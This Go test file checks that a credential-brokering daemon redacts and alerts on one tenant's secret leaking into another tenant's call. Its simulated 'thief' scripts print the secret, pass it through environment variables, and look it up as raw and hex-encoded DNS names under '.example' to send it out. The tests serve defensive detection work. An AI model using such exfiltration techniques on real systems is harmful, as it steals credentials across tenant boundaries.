package main

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bermsec/berm/agent/event"
	"github.com/bermsec/berm/collector/audit"
	"github.com/bermsec/berm/testenv/bermbin"
	"github.com/bermsec/berm/testenv/dnstest"
)

// A secret of one tenant's call that shows up in another tenant's call (its output, an exec's
// arguments, a path it opens) is redacted there and raises an alert naming both calls; bermd's
// log and state never hold the value or its base64.
func TestDaemonCrossCallCredentialLeak(t *testing.T) {
	d := startDaemon(t)
	b := make([]byte, 12)
	rand.Read(b)
	secret := "xcall-" + hex.EncodeToString(b)
	src := filepath.Join(t.TempDir(), "secret")
	os.WriteFile(src, []byte(secret), 0o600)
	pol := filepath.Join(t.TempDir(), "p.yaml")
	os.WriteFile(pol, []byte(fmt.Sprintf(`apiVersion: berm.dev/v1alpha1
kind: ToolPolicy
metadata: {name: holder}
spec:
  credentials:
    - {name: db, source: {file: %s}, deliver: {file: /run/secrets/db}}
`, src)), 0o600)
	wsA, wsB := bermbin.Workspace(t), bermbin.Workspace(t)
	done := make(chan bermbin.Result, 1)
	go func() {
		done <- d.run(t, "", "--policy", pol, "--tenant", "alpha", "--call-id", "holder", "--workspace", wsA, "--",
			"sh", "-c", "touch ready; while [ ! -e go ]; do sleep 0.05; done")
	}()
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if _, err := os.Stat(filepath.Join(wsA, "ready")); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the holder never started")
		}
	}
	// The secret reached the other tenant's call (say, through a shared service): it prints it,
	// passes it to a program and opens a path named after it.
	r := d.run(t, "", "--tenant", "beta", "--call-id", "thief", "--workspace", wsB, "--",
		"sh", "-c", "echo stolen "+secret+"; ls /tmp/"+secret+"; /bin/echo "+base64.StdEncoding.EncodeToString([]byte(secret))+
			// A loop repeating the leak must not flood the trail with alerts (never aggregated).
			"; for i in $(seq 200); do ls /tmp/"+secret+" 2>/dev/null; done")
	os.WriteFile(filepath.Join(wsA, "go"), nil, 0o644)
	if a := <-done; a.Exit != 0 {
		t.Fatalf("holder: %+v", a)
	}
	if strings.Contains(r.Stdout+r.Stderr, secret) || !strings.Contains(r.Stdout, "stolen [berm:redacted:db]") {
		t.Fatalf("thief's output not redacted:\n%s\n%s", r.Stdout, r.Stderr)
	}
	holder := d.call(t, "holder")
	tl := bermbin.Timeline(t, d.state, "beta/thief")
	where := map[string]bool{}
	alerts := 0
	for _, e := range tl.Events {
		if e.Alert != nil && e.Alert.RuleID == "credential-cross-call" {
			alerts++
			if e.Alert.Surface != event.SurfaceCredential || !strings.Contains(e.Alert.Output, holder.Start.CallKey) || !strings.Contains(e.Alert.Output, tl.Call.Start.CallKey) {
				t.Errorf("alert does not name both calls: %+v", e.Alert)
			}
		}
		if e.Credential != nil && e.Credential.Action == event.CredentialLeaked && e.Credential.OtherCall == holder.Start.CallKey {
			where[e.Credential.Where] = true
		}
		if e.Exec != nil && strings.Contains(strings.Join(e.Exec.Argv, " "), "xcall-") {
			t.Errorf("the secret is in a recorded exec: %v", e.Exec.Argv)
		}
	}
	if alerts == 0 || alerts > 10 {
		t.Errorf("%d cross-call alerts: want one per place and encoding, not one per repetition", alerts)
	}
	for _, w := range []string{"stdout", "exec argv"} {
		if !where[w] {
			t.Errorf("no cross-call leak in %s (%v)", w, where)
		}
	}
	// bermd has stopped writing for these calls: its log and state hold neither form.
	assertNowhere(t, d, secret)
}

// A secret of one tenant's call passed to a program in another tenant's call through its
// environment (never in an argument, never printed) raises the alert naming both calls; the
// environment is never recorded. An environment longer than the kernel's bound hides what is
// past it: that exec says its environment was cut, not scanned to the end. The holder's own
// secret, delivered by env and inherited by its children, is no leak.
func TestDaemonCrossCallSecretInExecEnv(t *testing.T) {
	d := startDaemon(t)
	secret, release := holdSecret(t, d, "xenv-", "deliver: {env: DB_TOKEN}", `[ -n "$DB_TOKEN" ] && /bin/true`)
	wsB := bermbin.Workspace(t)
	// The thief has the value in a file of its own (a shared service gave it out) and hands
	// it on in the environment only: raw to true, base64 to ls, and once behind 9000 bytes of
	// padding to echo, past the kernel's 8 KiB bound.
	os.WriteFile(filepath.Join(wsB, "s"), []byte(secret), 0o644)
	r := d.run(t, "", "--tenant", "beta", "--call-id", "thief", "--workspace", wsB, "--",
		"sh", "-c", `X=$(cat s) /bin/true; Z=$(base64 -w0 s) /bin/ls s >/dev/null; PAD=$(head -c 9000 /dev/zero | tr '\0' a) Y=$(cat s) /bin/echo padded`)
	holder := release()
	if r.Exit != 0 || strings.TrimSpace(r.Stdout) != "padded" {
		t.Fatalf("thief: %+v", r)
	}
	tl := bermbin.Timeline(t, d.state, "beta/thief")
	leaks := map[string]int{} // encoding -> leaks found in an exec's environment
	alerts := 0
	execs := map[string]*event.Exec{}
	for _, e := range tl.Events {
		if e.Exec != nil {
			execs[e.Exec.Filename] = e.Exec
		}
		if e.Credential != nil && e.Credential.Action == event.CredentialLeaked && e.Credential.Where == "exec env" {
			if e.Credential.OtherCall != holder.Start.CallKey || e.Credential.OtherTenant != "alpha" || e.Credential.Name != "db" {
				t.Errorf("leak does not name the holder: %+v", e.Credential)
			}
			leaks[e.Credential.Encoding]++
		}
		if e.Alert != nil && e.Alert.RuleID == "credential-cross-call" && strings.Contains(e.Alert.Output, "exec env") {
			alerts++
			if !strings.Contains(e.Alert.Output, holder.Start.CallKey) || !strings.Contains(e.Alert.Output, tl.Call.Start.CallKey) {
				t.Errorf("alert does not name both calls: %s", e.Alert.Output)
			}
		}
	}
	if leaks["raw"] != 1 || leaks["base64"] != 1 || len(leaks) != 2 || alerts != 2 {
		t.Errorf("leaks in exec environments by encoding %v, %d alerts: want one raw (true), one base64 (ls), two alerts", leaks, alerts)
	}
	for _, f := range []string{"/bin/true", "/bin/ls"} {
		if x := execs[f]; x == nil || x.EnvTruncated || x.EnvLen == 0 {
			t.Errorf("exec of %s: %+v, want its environment's length and no cut", f, x)
		}
	}
	if x := execs["/bin/echo"]; x == nil || !x.EnvTruncated || x.EnvLen < 9000 {
		t.Errorf("exec of /bin/echo: %+v, want its environment marked cut (not scanned to its end)", x)
	}
	// The holder's own secret in its own environment is not a leak.
	for _, e := range bermbin.Timeline(t, d.state, "alpha/holder").Events {
		if e.Credential != nil && e.Credential.Action == event.CredentialLeaked || e.Alert != nil && e.Alert.RuleID == "credential-cross-call" {
			t.Errorf("the holder's own env delivery counted as a leak: %+v %+v", e.Credential, e.Alert)
		}
		if e.Exec != nil && e.Exec.Filename == "/bin/true" && e.Exec.EnvLen == 0 {
			t.Errorf("holder's exec has no environment length: %+v", e.Exec)
		}
	}
	assertNowhere(t, d, secret)
}

// holdSecret starts a call of tenant alpha holding a fresh secret (prefix + hex) delivered as
// deliver says, which runs script and then waits; release lets it end, checks it did and
// returns its record.
func holdSecret(t *testing.T, d *bermd, prefix, deliver, script string) (secret string, release func() audit.Call) {
	t.Helper()
	b := make([]byte, 12)
	rand.Read(b)
	secret = prefix + hex.EncodeToString(b)
	src := filepath.Join(t.TempDir(), "secret")
	os.WriteFile(src, []byte(secret), 0o600)
	pol := filepath.Join(t.TempDir(), "p.yaml")
	os.WriteFile(pol, []byte(fmt.Sprintf(`apiVersion: berm.dev/v1alpha1
kind: ToolPolicy
metadata: {name: holder}
spec:
  credentials:
    - {name: db, source: {file: %s}, %s}
`, src, deliver)), 0o600)
	ws := bermbin.Workspace(t)
	done := make(chan bermbin.Result, 1)
	go func() {
		done <- d.run(t, "", "--policy", pol, "--tenant", "alpha", "--call-id", "holder", "--workspace", ws, "--",
			"sh", "-c", script+` && touch ready; while [ ! -e go ]; do sleep 0.05; done`)
	}()
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if _, err := os.Stat(filepath.Join(ws, "ready")); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the holder never started")
		}
	}
	return secret, func() audit.Call {
		os.WriteFile(filepath.Join(ws, "go"), nil, 0o644)
		if a := <-done; a.Exit != 0 {
			t.Fatalf("holder: %+v", a)
		}
		return d.call(t, "holder")
	}
}

// assertNowhere fails when bermd's log or a file of its state holds the secret, its base64 or
// its hex.
func assertNowhere(t *testing.T, d *bermd, secret string) {
	t.Helper()
	for _, f := range []string{secret, base64.StdEncoding.EncodeToString([]byte(secret)), hex.EncodeToString([]byte(secret))} {
		if bytes.Contains(d.log.Bytes(), []byte(f)) {
			t.Errorf("bermd's log holds the secret")
		}
		filepath.Walk(d.state, func(p string, fi os.FileInfo, err error) error {
			if err == nil && fi.Mode().IsRegular() {
				if data, _ := os.ReadFile(p); bytes.Contains(data, []byte(f)) {
					t.Errorf("%s holds the secret", p)
				}
			}
			return nil
		})
	}
}

// A secret of another call sent out as a DNS name (raw, and hex-encoded as a label) through the
// thief's own resolver: the dns events carry the name scrubbed, the alert names both calls, the
// upstream is never asked (the names are not allowed) and the value is nowhere berm writes.
func TestDaemonCrossCallSecretInDNSName(t *testing.T) {
	d := startDaemon(t)
	up := dnstest.Start(t, dnstest.Zone{"allowed.test": {dnstest.A("allowed.test", "127.0.0.21", 60)}})
	secret, release := holdSecret(t, d, "xdns", "deliver: {file: /run/secrets/db}", "true")
	ws := bermbin.Workspace(t)
	os.WriteFile(filepath.Join(ws, "s"), []byte(secret), 0o644)
	pol := filepath.Join(t.TempDir(), "dns.yaml")
	os.WriteFile(pol, []byte(`apiVersion: berm.dev/v1alpha1
kind: ToolPolicy
metadata: {name: thief}
spec:
  isolation: {network: host-filtered}
  network:
    egress:
      - {domain: allowed.test, ports: [80], allowPrivate: true} # the test's upstream answers on loopback
`), 0o644)
	r := d.run(t, "", "--tenant", "beta", "--call-id", "thief", "--workspace", ws, "--policy", pol, "--dns-upstream", up.Addr, "--",
		"python3", "-c", `import socket, binascii
v = open("s").read()
for n in (v + ".example", binascii.hexlify(v.encode()).decode() + ".example", "allowed.test"):
    try:
        print(socket.getaddrinfo(n, 80, socket.AF_INET)[0][4][0])
    except socket.gaierror:
        print("unresolved")
`)
	holder := release()
	if r.Exit != 0 || strings.Fields(r.Stdout)[0] != "unresolved" || !strings.Contains(r.Stdout, "127.0.0.21") {
		t.Fatalf("thief: %+v", r)
	}
	tl := bermbin.Timeline(t, d.state, "beta/thief")
	leaks := map[string]int{}
	alerts, scrubbed, allowed := 0, 0, 0
	for _, e := range tl.Events {
		if e.DNS != nil {
			switch {
			case strings.HasPrefix(e.DNS.Name, "[berm:redacted:db]"):
				scrubbed++
			case strings.HasPrefix(e.DNS.Name, "allowed.test"):
				allowed++
			}
		}
		if e.Credential != nil && e.Credential.Action == event.CredentialLeaked && e.Credential.Where == "dns name" && e.Credential.OtherCall == holder.Start.CallKey {
			leaks[e.Credential.Encoding]++
		}
		if e.Alert != nil && e.Alert.RuleID == "credential-cross-call" && strings.Contains(e.Alert.Output, "dns name") {
			alerts++
			if !strings.Contains(e.Alert.Output, holder.Start.CallKey) || !strings.Contains(e.Alert.Output, tl.Call.Start.CallKey) {
				t.Errorf("alert does not name both calls: %s", e.Alert.Output)
			}
		}
	}
	if scrubbed < 2 || allowed == 0 {
		t.Errorf("%d dns events with the name scrubbed (want one per secret query at least), %d of allowed.test", scrubbed, allowed)
	}
	if leaks["raw"] != 1 || leaks["hex"] != 1 || alerts != 2 {
		t.Errorf("dns name leaks by encoding %v, %d alerts: want one raw, one hex, two alerts", leaks, alerts)
	}
	if n := up.Count(secret+".example") + up.Count(hex.EncodeToString([]byte(secret))+".example"); n != 0 {
		t.Errorf("the upstream was asked for the secret's names %d times", n)
	}
	assertNowhere(t, d, secret)
}

// bermd SIGKILLed while a call holding a credential sleeps never ran its revoke: the next bermd
// on the node runs it once, before it takes calls, and journals it in the call's trail.
func TestDaemonRevokesAfterItWasKilled(t *testing.T) {
	d := startDaemon(t)
	dir := t.TempDir()
	log := filepath.Join(dir, "broker.log")
	revoke := filepath.Join(dir, "revoke")
	os.WriteFile(revoke, []byte("#!/bin/sh\necho \"revoke $BERM_CALL_ID $BERM_SECRET_FINGERPRINT restart=$BERM_REVOKE_AFTER_RESTART\" >> "+log+"\n"), 0o700)
	src := filepath.Join(dir, "secret")
	os.WriteFile(src, []byte("held-by-a-call-whose-bermd-dies"), 0o600)
	pol := filepath.Join(dir, "p.yaml")
	os.WriteFile(pol, []byte(fmt.Sprintf(`apiVersion: berm.dev/v1alpha1
kind: ToolPolicy
metadata: {name: holder}
spec:
  credentials:
    - {name: db, source: {file: %s}, deliver: {env: DB}, revoke: {exec: [%s]}}
`, src, revoke)), 0o600)
	ws := bermbin.Workspace(t)
	done := make(chan bermbin.Result, 1)
	go func() {
		done <- d.run(t, "", "--policy", pol, "--tenant", "alpha", "--call-id", "orphaned", "--workspace", ws, "--", "sh", "-c", "touch ready; exec sleep 30")
	}()
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if _, err := os.Stat(filepath.Join(ws, "ready")); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the call never started")
		}
	}
	d.cmd.Process.Kill()
	d.cmd.Wait()
	<-done
	if got, _ := os.ReadFile(log); len(got) != 0 {
		t.Fatalf("revoked by a killed bermd: %s", got)
	}
	d2 := startDaemon(t, "--state-dir", d.state)
	d2.cmd.Process.Signal(os.Interrupt)
	d2.cmd.Wait()
	startDaemon(t, "--state-dir", d.state) // a third start runs nothing again
	var fp string
	tl := bermbin.Timeline(t, d.state, "alpha/orphaned")
	revoked := 0
	for _, e := range tl.Events {
		if c := e.Credential; c != nil && c.Action == event.CredentialIssued {
			fp = c.Fingerprint
		}
		if c := e.Credential; c != nil && c.Action == event.CredentialRevoked {
			revoked++
			if c.Where != "after restart" || c.Result != "ok" || c.Fingerprint != fp {
				t.Errorf("revoke in the trail: %+v (issued as %s)", c, fp)
			}
		}
	}
	got, _ := os.ReadFile(log)
	if want := "revoke orphaned " + fp + " restart=1\n"; fp == "" || string(got) != want || revoked != 1 {
		t.Fatalf("broker log %q, want %q once; %d revokes in the trail", got, want, revoked)
	}
}
